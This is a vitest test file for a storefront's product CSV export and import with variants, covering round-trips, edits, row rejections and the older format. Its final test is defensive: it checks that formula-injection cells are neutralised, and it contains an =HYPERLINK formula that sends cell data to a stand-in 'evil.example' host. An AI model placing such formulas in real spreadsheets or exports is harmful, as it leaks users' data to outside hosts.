import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AdminProduct,
  type AuditEntry,
  PRODUCT_CSV_COLUMNS,
  PRODUCT_CSV_PRODUCT_COLUMNS,
  ProductImportReport,
  type VariantsEdit,
} from '@storefront/contracts';
import { BACKENDS, type StartedTestService, startTestService, testAuth } from '@storefront/testing';
import { catalogService } from '../src';

type Row = Record<(typeof PRODUCT_CSV_COLUMNS)[number], string>;

// The CSV export and import with variants: a row per variant, the product's columns repeated. A jacket
// in Size S/M and Colour Red/Black (four variants, and the default variant it had before, archived) and a
// product sold one way are the file's products to read and change.
describe.each(BACKENDS)('the product CSV with variants on $label', (backend) => {
  let svc: StartedTestService;
  let admin: Record<string, string>;
  let jacket: AdminProduct;
  let plain: AdminProduct;

  const get = (url: string) => request(svc.app).get(url).set(admin);
  const product = async (id: string) => (await get(`/api/admin/products/${id}`)).body as AdminProduct;
  const exportCsv = async () => {
    const res = await get('/api/admin/products/export.csv');
    expect(res.status).toBe(200);
    return res.text;
  };
  const rowsOf = (csv: string) => parse(csv, { columns: true }) as Row[];
  const cell = (v: string) => `"${v.replace(/"/g, '""')}"`;
  const toCsv = (rows: Array<Partial<Row>>, columns: readonly string[] = PRODUCT_CSV_COLUMNS) =>
    [columns.join(','), ...rows.map((r) => columns.map((c) => cell(r[c as keyof Row] ?? '')).join(','))].join('\n');
  const importCsv = (csv: string) =>
    request(svc.app).post('/api/admin/products/import').set(admin).set('Content-Type', 'text/csv').send(csv);
  const auditTotal = async () => (await get('/api/admin/audit/catalog')).body.total as number;
  const audit = async (id: string) => (await get(`/api/admin/audit/catalog?targetId=${id}`)).body.items as AuditEntry[];
  const skuOf = (p: AdminProduct, sku: string) => p.variants!.find((v) => v.sku === sku)!;

  beforeAll(async () => {
    svc = await startTestService(catalogService, backend);
    const auth = await testAuth();
    admin = { Authorization: `Bearer ${await auth.tokenFor({ isAdmin: true, name: 'Admin', email: 'admin@storefront.test' })}` };
    // Two products sold one way (the seeded catalogue has products with options too).
    const oneWay = ((await get('/api/admin/products?sort=name&limit=100')).body.items as AdminProduct[]).filter(
      (p) => p.options.length === 0,
    );
    const [first, second] = [oneWay[2]!, oneWay[3]!];
    const variants: VariantsEdit['variants'] = ['S', 'M'].flatMap((size) =>
      ['Red', 'Black'].map((colour) => ({
        sku: `JKT-${size}-${colour.toUpperCase()}`,
        options: { Size: size, Colour: colour },
        price: size === 'M' ? 110 : 100,
        stock: 3,
        forSale: true,
      })),
    );
    const saved = await request(svc.app)
      .put(`/api/admin/products/${first._id}/variants`)
      .set(admin)
      .send({
        options: [
          { name: 'Size', values: ['S', 'M'] },
          { name: 'Colour', values: ['Red', 'Black'] },
        ],
        variants,
        reason: 'First count',
      });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    jacket = await product(first._id);
    plain = await product(second._id);
  });
  afterAll(async () => svc?.close());

  it('exports a row per variant, archived ones too, with the product’s columns on each', async () => {
    const rows = rowsOf(await exportCsv());
    const ofJacket = rows.filter((r) => r.id === jacket._id);
    expect(ofJacket).toHaveLength(5);
    for (const r of ofJacket) expect(r).toMatchObject({ name: jacket.name, price: '100.00', stock: '12', status: 'active' });
    expect(ofJacket.filter((r) => r.variantForSale === 'true').map((r) => r.sku)).toEqual([
      'JKT-S-RED',
      'JKT-S-BLACK',
      'JKT-M-RED',
      'JKT-M-BLACK',
    ]);
    expect(ofJacket.find((r) => r.sku === 'JKT-M-BLACK')).toMatchObject({
      variantId: skuOf(jacket, 'JKT-M-BLACK')._id,
      option1Name: 'Size',
      option1Value: 'M',
      option2Name: 'Colour',
      option2Value: 'Black',
      option3Name: '',
      variantPrice: '110.00',
      variantStock: '3',
    });
    // What it was before it had options: archived, its price and stock its own.
    const archived = ofJacket.find((r) => r.variantForSale === 'false')!;
    expect(archived).toMatchObject({ variantId: jacket._id, option1Name: '', variantStock: String(skuOf(jacket, archived.sku).stock) });
    // A product sold one way: one row; its price and stock are the product's columns.
    expect(rows.filter((r) => r.id === plain._id)).toEqual([
      expect.objectContaining({
        variantId: plain._id,
        sku: plain.variants![0]!.sku,
        variantPrice: '',
        variantStock: '',
        variantForSale: 'true',
      }),
    ]);
  });

  it('imports its export unchanged as no change', async () => {
    const before = await exportCsv();
    const auditBefore = await auditTotal();
    const res = await importCsv(before);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(ProductImportReport.parse(res.body)).toEqual({ imported: true, created: 0, updated: 0, rejected: [] });
    expect(await exportCsv()).toBe(before);
    expect(await auditTotal()).toBe(auditBefore);
  });

  it('imports an edited one as exactly its changes: a variant’s price, a new variant, a new product with two', async () => {
    const before = await exportCsv();
    const rows = rowsOf(before);
    const mBlack = rows.find((r) => r.sku === 'JKT-M-BLACK')!;
    mBlack.variantPrice = '125.00';
    // A stale count does not undo sales since the export.
    rows.find((r) => r.sku === 'JKT-S-RED')!.variantStock = '50';
    const template = rows.find((r) => r.sku === 'JKT-M-RED')!;
    const at = rows.indexOf(template);
    rows.splice(at + 1, 0, { ...template, variantId: '', sku: 'JKT-L-RED', option1Value: 'L', variantPrice: '130', variantStock: '7' });
    // Left out of the file, a variant stays as it is: an import adds and changes, it does not remove.
    rows.splice(rows.indexOf(rows.find((r) => r.sku === 'JKT-S-BLACK')!), 1);
    const toque = { ...template, id: '', name: 'Zephyrine Wool Toque', description: 'Merino.', category: 'Accessories', tags: 'winter' };
    const newRows = [
      {
        ...toque,
        variantId: '',
        sku: 'TOQUE-RED',
        option1Name: 'Colour',
        option1Value: 'Red',
        option2Name: '',
        option2Value: '',
        variantPrice: '25',
        variantStock: '5',
      },
      {
        ...toque,
        variantId: '',
        sku: 'TOQUE-GREY',
        option1Name: 'Colour',
        option1Value: 'Grey',
        option2Name: '',
        option2Value: '',
        variantPrice: '',
        variantStock: '2',
      },
    ].map((r) => ({ ...r, price: '25.00', stock: '0', barcode: '', variantImageUrl: '' }));
    rows.push(...newRows);

    const res = await importCsv(toCsv(rows));
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toEqual({ imported: true, created: 1, updated: 1, rejected: [] });

    const now = await product(jacket._id);
    expect(now.options).toEqual([
      { name: 'Size', values: ['S', 'M', 'L'] },
      { name: 'Colour', values: ['Red', 'Black'] },
    ]);
    expect(skuOf(now, 'JKT-M-BLACK')).toEqual({ ...skuOf(jacket, 'JKT-M-BLACK'), price: 125 });
    expect(skuOf(now, 'JKT-S-RED')).toEqual(skuOf(jacket, 'JKT-S-RED'));
    expect(skuOf(now, 'JKT-S-BLACK')).toEqual(skuOf(jacket, 'JKT-S-BLACK'));
    expect(skuOf(now, 'JKT-L-RED')).toMatchObject({ options: { Size: 'L', Colour: 'Red' }, price: 130, stock: 7, forSale: true });
    expect(now).toMatchObject({ price: 100, priceMax: 130, stock: 19 });
    const [entry, ...older] = await audit(jacket._id);
    expect(entry).toMatchObject({ action: 'product.variants-changed', before: { options: jacket.options } });
    expect(older.map((e) => e.action)).toEqual(['product.variants-changed']);

    const found = (await get('/api/admin/products?q=zephyrine%20toque')).body.items as AdminProduct[];
    expect(found).toHaveLength(1);
    const made = await product(found[0]!._id);
    expect(made).toMatchObject({ options: [{ name: 'Colour', values: ['Red', 'Grey'] }], price: 25, stock: 7, status: 'active' });
    expect(made.variants!.map((v) => [v.sku, v.price, v.stock])).toEqual([
      ['TOQUE-RED', 25, 5],
      ['TOQUE-GREY', 25, 2],
    ]);
    expect((await audit(made._id)).map((e) => e.action)).toEqual(['product.created']);
    // Every other product's rows are as they were.
    const others = (csv: string) => rowsOf(csv).filter((r) => r.id !== jacket._id && r.id !== made._id);
    expect(others(await exportCsv())).toEqual(others(before));
  });

  it('refuses rows that do not fit, by row number, and imports nothing', async () => {
    const before = await exportCsv();
    const auditBefore = await auditTotal();
    const rows = rowsOf(before);
    const line = (r: Row) => rows.indexOf(r) + 2;
    const ofJacket = rows.filter((r) => r.id === jacket._id);
    const sRed = ofJacket.find((r) => r.sku === 'JKT-S-RED')!;
    // Options not fitting: a new variant with a size and no colour.
    const noColour = { ...sRed, variantId: '', sku: 'JKT-XL', option1Value: 'XL', option2Name: '', option2Value: '' };
    rows.splice(rows.indexOf(sRed) + 1, 0, noColour);
    // The product's columns disagreeing between its rows.
    const otherCategory = ofJacket.find((r) => r.sku === 'JKT-M-RED')!;
    otherCategory.category = 'Somewhere else';
    // A variant id of another product.
    const plainRow = rows.find((r) => r.id === plain._id)!;
    plainRow.variantId = skuOf(jacket, 'JKT-M-RED')._id;
    // A SKU another product has, on a new product's row.
    const newRow = { ...plainRow, id: '', variantId: '', name: 'Borrowed SKU Mitts', sku: 'JKT-M-BLACK' };
    rows.push(newRow);

    const res = await importCsv(toCsv(rows));
    expect(res.status).toBe(400);
    const report = ProductImportReport.parse(res.body);
    expect(report).toMatchObject({ imported: false, created: 0, updated: 0 });
    const firstOfJacket = line(rows.find((r) => r.id === jacket._id)!);
    expect(report.rejected).toEqual(
      [
        { row: line(noColour), errors: ['Each variant needs one value of each option: Size, Colour.'] },
        {
          row: line(otherCategory),
          errors: [`category is not as on row ${firstOfJacket}: every row of a product repeats the product’s columns.`],
        },
        { row: line(plainRow), errors: [`variantId: ${plainRow.variantId} is not a variant of this product.`] },
        {
          row: line(newRow),
          errors: [`sku: JKT-M-BLACK is also on row ${line(rows.find((r) => r.sku === 'JKT-M-BLACK')!)}, another product’s.`],
        },
      ].sort((a, b) => a.row - b.row),
    );
    expect(await exportCsv()).toBe(before);
    expect(await auditTotal()).toBe(auditBefore);

    // A SKU used by a product that is not in the file, and two rows of one new product alike.
    const alone = [
      { ...newRow, sku: 'JKT-S-RED' },
      { ...newRow, name: 'Twin Socks', sku: 'SOCK-1', option1Name: 'Size', option1Value: 'M' },
      { ...newRow, name: 'Twin Socks', sku: 'SOCK-1', option1Name: 'Size', option1Value: 'M' },
    ];
    const second = await importCsv(toCsv(alone));
    expect(second.body.rejected).toEqual([
      { row: 2, errors: ['The SKU JKT-S-RED is already another product’s.'] },
      { row: 4, errors: ['Two variants have the SKU SOCK-1.', 'Two variants are Size M.'] },
    ]);
  });

  it('still imports a file without variant columns, each row a product sold one way', async () => {
    const row = rowsOf(await exportCsv()).find((r) => r.id === plain._id)!;
    const file = toCsv(
      [
        { ...row, price: '42.50' },
        { ...row, id: '', name: 'Old Format Snowshoes', price: '42.50', stock: '6' },
      ],
      PRODUCT_CSV_PRODUCT_COLUMNS,
    );
    const res = await importCsv(file);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toEqual({ imported: true, created: 1, updated: 1, rejected: [] });
    expect(await product(plain._id)).toMatchObject({ price: 42.5, stock: plain.stock, options: [] });
    const made = ((await get('/api/admin/products?q=old%20format%20snowshoes')).body.items as AdminProduct[])[0]!;
    const full = await product(made._id);
    expect(full.variants).toEqual([expect.objectContaining({ _id: made._id, options: {}, price: 42.5, stock: 6, forSale: true })]);
  });

  it('writes a cell a spreadsheet would run as text, and imports its own export of it unchanged', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
    const edit = {
      name: formula,
      description: '@SUM(1+1)',
      category: plain.category,
      price: plain.price,
      imageUrl: plain.imageUrl,
      tags: ['-2+3'],
    };
    expect((await request(svc.app).put(`/api/admin/products/${plain._id}`).set(admin).send(edit)).status).toBe(200);
    const csv = await exportCsv();
    const row = rowsOf(csv).find((r) => r.id === plain._id)!;
    expect([row.name, row.description, row.tags]).toEqual([`'${formula}`, "'@SUM(1+1)", "'-2+3"]);
    // Quoted too, so the apostrophe reaches the spreadsheet as it is.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Click"")"`);
    const res = await importCsv(csv);
    expect(ProductImportReport.parse(res.body)).toMatchObject({ imported: true, updated: 0 });
    expect((await product(plain._id)).name).toBe(formula);
    expect(await exportCsv()).toBe(csv);
  });
});
